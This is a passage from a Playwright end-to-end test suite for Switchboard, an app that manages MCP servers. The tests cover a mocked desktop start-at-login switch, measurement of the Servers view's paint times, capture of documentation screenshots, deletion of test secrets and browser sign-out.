    await heading('Add a server').waitFor();
  });

  it('in the desktop app, Settings switches start at login through the shell, and says when that fails', async () => {
    // The desktop app's preload bridge (window.switchboard), stood in for by a page script: control-API
    // requests go to this `serve` with the control token (as the shell relays them), start at login is
    // kept here, as the shell keeps it. The page never signs in: it has the bridge.
    const control = readFileSync(join(t.home.tokens, 'control'), 'utf8').trim();
    const desktop = await browser.newContext({ viewport: VIEWPORT });
    await desktop.addInitScript(`(() => {
      const auth = { authorization: 'Bearer ${control}' };
      // kept across reloads, as the system keeps the login item
      let startAtLogin = sessionStorage.getItem('startAtLogin') === 'true';
      window.__shellCalls = [];
      window.switchboard = {
        async request({ method, path, body }) {
          const res = await fetch(path, {
            method,
            ...(body === undefined
              ? { headers: auth }
              : { headers: { ...auth, 'content-type': 'application/json' }, body: JSON.stringify(body) }),
          });
          const text = await res.text();
          let json = text ? JSON.parse(text) : null;
          if (path === '/api/settings' && res.ok) json = { ...json, startAtLogin };
          return { status: res.status, body: json };
        },
        async shell(request) {
          window.__shellCalls.push(request);
          if (window.__refuse) throw new Error('the system refused to change the login item');
          if (request.type === 'set-start-at-login') {
            startAtLogin = request.enabled;
            sessionStorage.setItem('startAtLogin', String(startAtLogin));
          }
        },
        onEvent(listener) {
          const controller = new AbortController();
          void (async () => {
            const res = await fetch('/api/events', { headers: auth, signal: controller.signal });
            const reader = res.body.pipeThrough(new TextDecoderStream()).getReader();
            let buffer = '';
            for (;;) {
              const { done, value } = await reader.read();
              if (done) return;
              buffer += value;
              let end;
              while ((end = buffer.indexOf('\\n\\n')) >= 0) {
                const data = buffer.slice(0, end).split('\\n').filter((l) => l.startsWith('data: '));
                buffer = buffer.slice(end + 2);
                if (data.length) listener(JSON.parse(data.map((l) => l.slice(6)).join('\\n')));
              }
            }
          })().catch(() => {});
          return () => controller.abort();
        },
      };
    })()`);
    const app = await desktop.newPage();
    try {
      await app.goto(`${origin}/`);
      await app.getByRole('heading', { name: 'Servers', exact: true }).waitFor();
      await app.evaluate("window.location.hash = '#/settings'");
      const toggle = app.getByRole('switch', { name: 'Start Switchboard when you log in' });
      await toggle.waitFor();
      expect(await toggle.isChecked()).toBe(false);
      expect(await app.getByText('Only in the desktop app').count()).toBe(0);

      await toggle.click();
      await expect.poll(() => toggle.isChecked()).toBe(true);
      expect(await app.evaluate('window.__shellCalls')).toEqual([
        { type: 'set-start-at-login', enabled: true },
      ]);
      await app.mouse.move(0, 0);
      await shot('16-settings-desktop', { on: app, docs: 'settings-desktop' });
      // What the shell reports is what shows after a reload.
      await app.reload();
      await toggle.waitFor();
      expect(await toggle.isChecked()).toBe(true);

      // The shell cannot change it: the switch goes back and says why.
      await app.evaluate('window.__refuse = true');
      await toggle.click();
      await app.getByRole('alert').getByText('Start at login was not changed: ').waitFor();
      await app.getByText('the system refused to change the login item').waitFor();
      expect(await toggle.isChecked()).toBe(true);
    } finally {
      await desktop.close();
    }
  });

  it('paints the Servers view with live data, measured cold (a new browser signing in) and warm (reloads)', async () => {
    const measure = async (p: Page) => {
      await p.locator('tbody[data-server="everything"]').waitFor();
      // Polled with evaluate (DevTools, outside the page's CSP): waitForFunction's in-page polling
      // evaluates a string, which the UI's strict CSP (no 'unsafe-eval') may refuse.
      for (let i = 0; i < 200; i++) {
        const marks = await p.evaluate((name) => {
          const painted = performance.getEntriesByName(name)[0];
          const fcp = performance.getEntriesByName('first-contentful-paint')[0];
          return painted && fcp ? { painted: painted.startTime, fcp: fcp.startTime } : undefined;
        }, SERVERS_PAINTED);
        if (marks) return marks;
        await p.waitForTimeout(50);
      }
      throw new Error('the Servers view never marked its paint');
    };

    // Cold: a browser with an empty cache opens a fresh sign-in link (from `switchboard ui`).
    const link = await runCli(['ui'], t.env);
    expect(link.code, link.stderr).toBe(0);
    const fresh = /Open the UI: (\S+)/.exec(link.stdout)?.[1];
    expect(fresh).toMatch(/\/login\?code=/);
    const cold = await browser.newContext({ viewport: VIEWPORT });
    const coldPage = await cold.newPage();
    await coldPage.goto(fresh ?? '');
    const first = await measure(coldPage);
    await cold.close();

    // Warm: reloads of the Servers view (assets cached, as on every later visit).
    const runs: { painted: number; fcp: number }[] = [];
    await go('#/servers');
    for (let i = 0; i < 5; i++) {
      await page.reload();
      runs.push(await measure(page));
    }
    const painted = runs.map((r) => r.painted).sort((a, b) => a - b);
    const median = painted[Math.floor(painted.length / 2)] ?? Infinity;
    const worst = painted[painted.length - 1] ?? Infinity;
    figures.coldServersPaintedMs = {
      value: Math.round(first.painted),
      unit: 'ms',
      what: 'cold: a new browser profile (empty cache) opens a one-time sign-in link; includes the /login redirect, downloading the first JS/CSS chunk, the /api/status answer and rendering',
    };
    figures.coldFirstContentfulPaintMs = {
      value: Math.round(first.fcp),
      unit: 'ms',
      what: "cold: Chromium's first-contentful-paint (the app's first pixels, before the list has data)",
    };
    figures.warmServersPaintedMedianMs = {
      value: Math.round(median),
      unit: 'ms',
      what: 'warm: median of 5 reloads of #/servers in a signed-in browser (assets from the HTTP cache, status fetched anew)',
    };
    figures.warmServersPaintedWorstMs = {
      value: Math.round(worst),
      unit: 'ms',
      what: 'warm: slowest of the same 5 reloads',
    };
    console.log(
      `UI first meaningful paint of the Servers view (list with live data): cold ${first.painted.toFixed(0)} ms ` +
        `(first contentful paint ${first.fcp.toFixed(0)} ms, sign-in redirect included); ` +
        `warm median of 5 reloads ${median.toFixed(0)} ms (worst ${worst.toFixed(0)} ms)`,
    );
    // The times are figures for docs/performance.md (budget: < 1 s), not a pass/fail: a loaded shared
    // machine would fail a fast UI. What is asserted is that the list painted with live data at all.
    expect(Number.isFinite(first.painted) && Number.isFinite(median)).toBe(true);

    await shot('13-servers');
    await page.emulateMedia({ colorScheme: 'dark' });
    await page.reload();
    await row('everything').waitFor();
    await shot('14-servers-dark');
    await page.emulateMedia({ colorScheme: 'light' });
    expect(consoleProblems).toEqual([]);
  });

  it('shows every view as a newcomer would see it (docs/screenshots with SWITCHBOARD_UPDATE_SCREENSHOTS=1)', async () => {
    const open = async (hash: string, ready: () => Promise<void>) => {
      // A fresh load each time (not a same-document hash change): nothing left over from the steps
      // before (focus rings, hovers, input).
      await page.goto('about:blank');
      await page.goto(`${origin}/${hash}`);
      await ready();
      await page.mouse.move(0, 0);
    };
    await open('#/servers', () => row('everything').locator('.state[data-state="running"]').waitFor());
    await expect.poll(() => row('everything').locator('.timing').textContent()).toMatch(/^up /);
    await shot('30-servers', { docs: 'servers' });

    await open('#/servers/github', () => page.getByLabel('Command').waitFor());
    await shot('31-server-detail', { docs: 'server-detail' });
    // What people do with a README's command line: paste all of it into "command".
    await page.getByLabel('Arguments').fill('');
    await page.getByLabel('Command').fill('npx -y @modelcontextprotocol/server-github');
    await page.getByRole('button', { name: 'Move the arguments to “Arguments”' }).waitFor();
    await page.getByLabel('Command').blur();
    await shot('32-field-error', { docs: 'field-error' });
    await page.getByRole('button', { name: 'Discard' }).click();

    await open('#/servers/everything/tools', () =>
      page.getByTestId('tools-list').getByRole('heading', { name: 'echo', exact: true }).waitFor(),
    );
    await shot('33-server-tools', { docs: 'server-tools' });

    await open('#/servers/everything/logs', () =>
      page
        .getByRole('log')
        .getByText(/running: initialize answered/)
        .first()
        .waitFor(),
    );
    await shot('34-logs', { docs: 'logs' });

    await open('#/approvals', () => page.locator('article[data-approval="github"]').waitFor());
    await shot('35-approvals-new');

    // Editors as they are most of the time: synced (the steps before left Zed restored and Cursor's
    // token revoked).
    await open('#/editors', () => page.locator('article[data-editor="cursor"] .state').waitFor());
    for (const [id, label] of [
      ['cursor', 'Cursor'],
      ['zed', 'Zed'],
    ] as const) {
      const card = page.locator(`article[data-editor="${id}"]`);
      await card.getByRole('button', { name: `Sync ${label} now` }).click();
      await expect
        .poll(() => card.locator('.state').getAttribute('data-state'), { timeout: 15_000 })
        .toBe('in-sync');
    }
    await open('#/editors', () => page.locator('article[data-editor="cursor"] .state').waitFor());
    await shot('36-editors', { docs: 'editors' });

    await open('#/secrets', () => page.locator('tr[data-secret="github-token"]').waitFor());
    await shot('37-secrets', { docs: 'secrets' });

    await open('#/settings', () => page.getByTestId('tokens-table').waitFor());
    await shot('38-settings', { docs: 'settings' });

    await page.emulateMedia({ colorScheme: 'dark' });
    try {
      await open('#/servers', () => row('everything').locator('.state[data-state="running"]').waitFor());
      await shot('39-servers-dark', { docs: 'servers-dark' });
    } finally {
      await page.emulateMedia({ colorScheme: 'light' });
    }
    expect(consoleProblems).toEqual([]);
  });

  it('cleans up: deletes the secret through the UI', async () => {
    await go('#/secrets');
    const secretRow = page.locator(`tr[data-secret="${secretName}"]`);
    await secretRow.getByRole('button', { name: 'Delete' }).click();
    await secretRow.getByRole('button', { name: `Delete ${secretName}` }).click();
    await secretRow.getByText(/missing/).waitFor();
    await page
      .locator('tr[data-secret="pasted-github_token"]')
      .getByRole('button', { name: 'Delete' })
      .click();
    await page.getByRole('button', { name: 'Delete pasted-github_token' }).click();
  });

  it('signs this browser out from Settings: its key is forgotten here and by Switchboard', async () => {
    const key = String(await page.evaluate(`localStorage.getItem(${JSON.stringify(SESSION_STORAGE_KEY)})`));
    const { session } = JSON.parse(key) as { session: string };
    await go('#/settings');
    await page.getByTestId('browser-sign-ins').getByRole('button', { name: 'Sign out this browser' }).click();
    await heading('Sign in to Switchboard').waitFor();
    expect(await page.evaluate('localStorage.length')).toBe(0);
    const res = await fetch(`${origin}/api/status`, { headers: { authorization: `Bearer ${session}` } });
    expect(res.status).toBe(401);
  });
});
